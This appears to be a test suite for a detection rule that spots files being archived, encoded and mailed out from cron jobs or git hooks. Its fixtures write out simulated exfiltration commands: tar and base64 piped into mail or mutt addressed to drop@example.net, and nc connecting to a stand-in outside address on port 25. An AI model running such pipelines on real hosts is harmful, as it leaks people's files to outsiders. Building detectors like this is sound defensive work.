import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, SECOND } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const TO = 'drop@example.net';
const OUT = '203.0.113.66';

interface Job {
  readonly log: HostLog;
  readonly shell: Process;
  /** A stage that is forked and has not started a program yet: the shell numbers its stages in their order. */
  readonly stage: () => Process;
}

/** By what the mail of a crontab's line is told to be fed; null when nothing of a pipeline is told. */
async function fedBy(act: (job: Job) => void): Promise<string | null> {
  const log = new HostLog();
  log.deliver();
  const shell = log.cron('clerk', 'x');
  act({ log, shell, stage: () => shell.fork() });
  for (const alert of await scanLog(log)) {
    const packed = alert.factors.find(factor => factor.name === 'packed or encoded data in the pipeline');
    if (alert.analytic === 'AN0380' && packed !== undefined) return packed.evidence;
  }
  return null;
}

/** The mailer takes what it is given, and the MTA takes that. */
const mails = ({ log }: Job, stage: Process): void => {
  stage.exec(`/usr/bin/mail -a plans.zip ${TO}`).run('/usr/sbin/sendmail -i');
  log.submitted('clerk', TO, 90_000);
};

test('stages start side by side: what packs counts, whichever is recorded first', async () => {
  const first = await fedBy(job => {
    const [tar, mail] = [job.stage(), job.stage()];
    tar.exec('/bin/tar c plans');
    mails(job, mail);
  });
  const last = await fedBy(job => {
    const [tar, mail] = [job.stage(), job.stage()];
    mails(job, mail);
    tar.exec('/bin/tar c plans');
  });
  assert.deepEqual([first, last], ['tar', 'tar']);
});

test('mutt mails what it is handed as mail does', async () => {
  const fed = await fedBy(job => {
    const [tar, mutt] = job.shell.pipeline('/bin/tar c plans', `/usr/bin/mutt -s x -a plans.zip -- ${TO}`);
    tar?.read('/home/clerk/plans');
    mutt?.run('/usr/sbin/sendmail -i');
    job.log.submitted('clerk', TO, 90_000);
  });
  assert.equal(fed, 'tar');
});

test('what packs inside a group counts, before the mailer starts and after', async () => {
  const before = await fedBy(job => {
    const [group, mail] = [job.stage(), job.stage()];
    group.pipeline('/bin/tar c plans', '/usr/bin/base64');
    mails(job, mail);
  });
  const after = await fedBy(job => {
    const [group, mail] = [job.stage(), job.stage()];
    mails(job, mail);
    group.pipeline('/bin/tar c plans', '/usr/bin/base64');
  });
  assert.deepEqual([before, after], ['base64, tar', 'base64, tar']);
});

test('a group may speak SMTP for a while before it packs', async () => {
  const fed = await fedBy(({ log, stage }) => {
    const [group, nc] = [stage(), stage()];
    nc.exec(`/usr/bin/nc ${OUT} 25`).connect(OUT, 25);
    for (let i = 0; i < 3; i++) {
      group.run('/usr/bin/sleep 2');
      log.wait(2 * SECOND);
    }
    group.pipeline('/bin/tar c plans', '/usr/bin/base64');
  });
  assert.equal(fed, 'base64, tar');
});

test('a group is known as well where it opened a file itself', async () => {
  const fed = await fedBy(job => {
    const [group, mail] = [job.stage(), job.stage()];
    group.read('/home/clerk/notes.txt');
    mails(job, mail);
    group.run('/bin/tar c plans');
  });
  assert.equal(fed, 'tar');
});

test('a program that tar starts in order to pack is no further one', async () => {
  const fed = await fedBy(job => {
    const [group, mail] = [job.stage(), job.stage()];
    mails(job, mail);
    group.run('/bin/tar cz plans').run(['/bin/sh', '-c', 'gzip']).run('/usr/bin/gzip');
  });
  assert.equal(fed, 'tar');
});

test('what is packed behind the mail is none of it: a backup that is announced first', async () => {
  const plain = await fedBy(job => {
    mails(job, job.stage());
    job.shell.run('/bin/tar c /srv');
  });
  const grouped = await fedBy(job => {
    mails(job, job.stage());
    job.stage().run('/bin/tar c /srv');
  });
  assert.deepEqual([plain, grouped], [null, null]);
});

test('a backup in a group of its own, and mail about it when it is done', async () => {
  const fed = await fedBy(job => {
    job.stage().run('/bin/tar cf /backup/srv.tar .');
    job.log.wait(2 * SECOND);
    mails(job, job.stage());
  });
  assert.equal(fed, null);
});

test('a small archive that is written just before the mail is not what feeds it', async () => {
  const into = (line: string) =>
    fedBy(job => {
      job.shell.run(line);
      mails(job, job.stage());
    });
  assert.equal(await into('/bin/tar cJf /backup/srv.txz /srv'), null);
  assert.equal(await into('/usr/bin/gzip /home/clerk/plans'), null);
  assert.equal(await into('/usr/bin/gzip -c /home/clerk/plans'), 'gzip');
});

test("another login's group at the same moment feeds nothing here", async () => {
  const other = (mailFirst: boolean) =>
    fedBy(job => {
      const theirs = job.log.cron('buyer', 'x').fork();
      const mail = job.stage();
      if (mailFirst) mails(job, mail);
      theirs.run('/bin/tar c /home/buyer');
      if (!mailFirst) mails(job, mail);
    });
  assert.deepEqual([await other(true), await other(false)], [null, null]);
});

test("a group left behind by a script of a login is the script's: what packs in it feeds the mailer beside it", async () => {
  const log = new HostLog();
  log.deliver();
  const hook = log.shell('dev').run('/usr/bin/git commit -qam fix').run('.git/hooks/post-commit', { by: '/bin/sh' });
  const left = hook.fork();
  const [group, mail] = [left.fork(), left.fork()];
  mail.exec('/usr/sbin/sendmail -t -oi');
  group.run('/usr/bin/gzip');
  group.run('/usr/bin/openssl base64');
  log.submitted('dev', TO, 40_000);
  const found = (await scanLog(log)).filter(({ analytic }) => analytic === 'AN0380');
  assert.deepEqual(
    found.map(({ severity, factors }) => [severity, factors.map(({ name }) => name).slice(0, 2)]),
    [['medium', ['packed or encoded data in the pipeline', 'started by a hook, not by the person']]],
  );
});

test('a group of a shell far off in the numbers feeds nothing here', async () => {
  const fed = await fedBy(job => {
    const group = job.stage();
    for (let i = 0; i < 16; i++) job.stage();
    mails(job, job.stage());
    group.run('/bin/tar c plans');
  });
  assert.equal(fed, null);
});
